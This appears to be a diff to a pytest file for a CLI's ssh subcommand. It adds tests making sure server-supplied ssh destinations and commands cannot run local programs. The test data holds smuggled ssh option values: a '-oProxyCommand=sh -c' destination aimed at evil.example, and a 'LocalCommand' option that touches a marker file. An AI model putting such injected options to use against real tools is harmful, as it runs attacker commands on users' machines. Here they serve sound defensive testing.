@@ -3,19 +3,23 @@
 from __future__ import annotations
 
 import io
+import json
 import os
 import re
+import shlex
 import stat
 import sys
+import tomllib
 from pathlib import Path
 
 import pytest
 
+from boxdeck.service.ssh_trust import ProxyTrust, trust_file
 from boxdeck.sim import SimServer
 from boxdeck.subcommands import ssh as ssh_cmd
 
-AMIKA_CMD = re.compile(r"ssh -p (\d+) (\S+)@(\S+)")
-DEVBOX_CMD = re.compile(r"ssh (\S+)@(\S+) -p (\d+)")
+AMIKA_CMD = re.compile(r"ssh -p (\d+) -- (\S+)@(\S+)")
+DEVBOX_CMD = re.compile(r"ssh -p (\d+) -- (\S+)@(\S+)")
 
 
 def test_print_amika_command(sim_env: SimServer, run_cli) -> None:
@@ -132,9 +136,9 @@ def test_runs_ssh_and_returns_its_exit_code(sim_env: SimServer, run_cli, fake_ss
     argv = fake_ssh.read_text().splitlines()
     # stdin is not a terminal: ssh must not prompt either.
     assert argv[:2] == ["-o", "BatchMode=yes"]
-    assert argv[2:4] == ["-p", "2222"] and argv[4].endswith("@ssh.sim.boxdeck.local")
-    assert argv[5:] == ["uname", "-a"]
-    assert argv[4].split("@")[0] not in result.err + result.out
+    assert argv[2:5] == ["-p", "2222", "--"] and argv[5].endswith("@ssh.sim.boxdeck.local")
+    assert argv[6:] == ["uname", "-a"]  # after the destination: never read as options
+    assert argv[5].split("@")[0] not in result.err + result.out
 
 
 def test_runs_the_devbox_command_given_by_the_service(sim_env: SimServer, run_cli,
@@ -142,12 +146,106 @@ def test_runs_the_devbox_command_given_by_the_service(sim_env: SimServer, run_cl
     seen: list[list[str]] = []
     monkeypatch.setattr(ssh_cmd, "run_command", lambda argv: seen.append(argv) or 0)
     monkeypatch.setattr(ssh_cmd, "stdin_is_terminal", lambda: True)
-    result = run_cli("ssh", "web-preview")
+    result = run_cli("ssh", "scratch")
     assert result.code == 0, result.err
-    assert seen and seen[0][0] == "ssh"
-    assert any(a.startswith("ProxyCommand=") for a in seen[0])  # a proxied devbox: the session's command
+    assert seen and seen[0][:2] == ["ssh", "-p"] and seen[0][3] == "--" and "@" in seen[0][4]
     assert "BatchMode=yes" not in seen[0]
     assert result.out == ""
+
+
+# -- nothing a server sends runs here -------------------------------------------------------------------
+
+
+def proxy_of(sim: SimServer, name: str) -> str:
+    box = next(d for d in sim.world.devbox.devboxes.values() if d.name == name)
+    return f"devbox-proxy --relay proxy.sim.boxdeck.local --devbox {box.id} %h %p"
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="POSIX shell stand-in")
+def test_a_hostile_amika_destination_is_refused_and_nothing_runs(sim_env: SimServer, run_cli, fake_ssh: Path,
+                                                                 tmp_path: Path,
+                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sys, "stdin", NoInput())
+    marker = tmp_path / "pwned"
+    sim_env.answer_ssh("amika", "acme/platform",
+               ssh_destination=f"-oProxyCommand=sh\\ -c\\ 'touch\\ {marker}' -p 2222 {{token}}@evil.example")
+    result = run_cli("ssh", "acme/platform")
+    assert result.code == 1
+    assert 'Refused the SSH destination Amika sent for sandbox "acme/platform"' in result.err
+    assert "[-p PORT] user@host" in result.err and result.out == ""
+    assert not fake_ssh.exists() and not marker.exists()  # ssh never started
+    printed = run_cli("ssh", "acme/platform", "--print")
+    assert printed.code == 1 and printed.out == "" and "Refused" in printed.err
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="POSIX shell stand-in")
+def test_an_untrusted_proxy_command_is_refused_and_says_how_to_trust_it(sim_env: SimServer, run_cli,
+                                                                        fake_ssh: Path) -> None:
+    proxy = proxy_of(sim_env, "web-preview")
+    for argv in (("ssh", "web-preview"), ("ssh", "web-preview", "--print")):
+        result = run_cli(*argv)
+        assert result.code == 1, result.err
+        assert result.out == ""  # --print never prints an untrusted one
+        assert not fake_ssh.exists()
+        assert "has not trusted it" in result.err and proxy in result.err
+        lines = [x.strip() for x in result.err.splitlines()]
+        line = next(x for x in lines if x.startswith("trusted_proxy_commands"))
+        assert tomllib.loads(line) == {"trusted_proxy_commands": [proxy]}  # pasteable as it is
+        assert "connect to the box once from the dashboard" in result.err
+
+
+def write_profile(path: Path, sim: SimServer, trusted: list[str]) -> Path:
+    entries = ", ".join(json.dumps(t) for t in trusted)
+    path.write_text(
+        "[profiles.work]\n"
+        f'devbox_url = "{sim.base_url}"\n'
+        f'sprites_token = {{ env = "DEVBOX_SPRITES_TOKEN" }}\n'
+        f"trusted_proxy_commands = [{entries}]\n"
+    )
+    path.chmod(0o600)
+    return path
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="POSIX shell stand-in")
+def test_a_proxy_command_trusted_in_the_profile_runs(sim_env: SimServer, run_cli, fake_ssh: Path,
+                                                     tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sys, "stdin", NoInput())
+    proxy = proxy_of(sim_env, "web-preview")
+    config = write_profile(tmp_path / "config.toml", sim_env, [proxy])
+    printed = run_cli("ssh", "web-preview", "--print", "--profile", "work", "--config", str(config))
+    assert printed.code == 0, printed.err
+    assert shlex.split(printed.out)[1:3] == ["-o", f"ProxyCommand={proxy}"]
+    result = run_cli("ssh", "web-preview", "--profile", "work", "--config", str(config))
+    assert result.code == 7
+    argv = fake_ssh.read_text().splitlines()
+    assert f"ProxyCommand={proxy}" in argv and argv[-2] == "--"
+    other = write_profile(tmp_path / "other.toml", sim_env, ["devbox-proxy --something-else %h %p"])
+    refused = run_cli("ssh", "web-preview", "--print", "--profile", "work", "--config", str(other))
+    assert refused.code == 1 and refused.out == ""
+
+
+def test_a_proxy_command_trusted_in_the_dashboard_is_trusted_here(sim_env: SimServer, run_cli) -> None:
+    proxy = proxy_of(sim_env, "web-preview")
+    ProxyTrust(None, path=trust_file()).trust(proxy)  # the dashboard's "yes", no profile in use
+    result = run_cli("ssh", "web-preview", "--print")
+    assert result.code == 0, result.err
+    assert f"ProxyCommand={proxy}" in shlex.split(result.out)
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="POSIX shell stand-in")
+def test_options_that_run_local_programs_are_left_out(sim_env: SimServer, run_cli, fake_ssh: Path,
+                                                      monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sys, "stdin", NoInput())
+    scratch = next(d.id for d in sim_env.world.devbox.devboxes.values() if d.name == "scratch")
+    sim_env.answer_ssh("devbox", scratch, command=(
+        "ssh -o 'LocalCommand=touch /tmp/pwned' -o PermitLocalCommand=yes -i /home/u/.ssh/id_rsa "
+        "dev@scratch.example -p 2222"
+    ))
+    result = run_cli("ssh", "scratch")
+    assert result.code == 7
+    argv = fake_ssh.read_text().splitlines()
+    assert argv == ["-o", "BatchMode=yes", "-p", "2222", "--", "dev@scratch.example"]
+    assert "left out ssh options the server may not set: LocalCommand, PermitLocalCommand, -i" in result.err
 
 
 def test_missing_ssh_binary(sim_env: SimServer, run_cli, tmp_path: Path,
